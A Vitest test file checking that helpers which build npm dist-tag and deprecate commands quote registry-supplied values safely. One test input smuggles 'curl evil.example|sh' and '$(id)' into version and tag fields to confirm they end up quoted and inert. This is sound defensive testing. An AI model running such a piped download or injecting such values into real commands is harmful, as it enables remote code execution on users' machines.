import { expect, it } from 'vitest';
import { deprecateCommand, moveCommand } from '../../../src/features/surfaces/steps/hand-over.ts';

const NAME = '@awell-health/navi-js';

it('a command for a person to copy is quoted where a registry could have put more into it', () => {
  expect(moveCommand({ name: NAME, version: '1.1.0', tag: 'latest' })).toBe(
    `npm dist-tag add ${NAME}@1.1.0 latest`,
  );
  expect(moveCommand({ name: NAME, version: '1.1.0; curl evil.example|sh', tag: '$(id)' })).toBe(
    `npm dist-tag add '${NAME}@1.1.0; curl evil.example|sh' '$(id)'`,
  );
  expect(deprecateCommand({ name: NAME, version: '1.1.0', message: "it's `bad` $HOME" })).toBe(
    `npm deprecate ${NAME}@1.1.0 'it'\\''s \`bad\` $HOME'`,
  );
});
